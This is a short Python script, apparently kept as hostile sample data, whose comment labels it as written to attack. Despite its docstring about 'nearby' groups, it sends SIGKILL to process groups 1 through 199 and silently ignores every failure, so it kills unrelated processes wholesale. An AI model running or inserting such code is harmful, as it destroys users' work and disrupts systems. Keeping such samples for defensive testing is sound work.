"""Signal process groups and sessions near our own."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import os
for pgid in range(1, 200):
    try:
        os.killpg(pgid, 9)
    except Exception:
        pass
print("done")
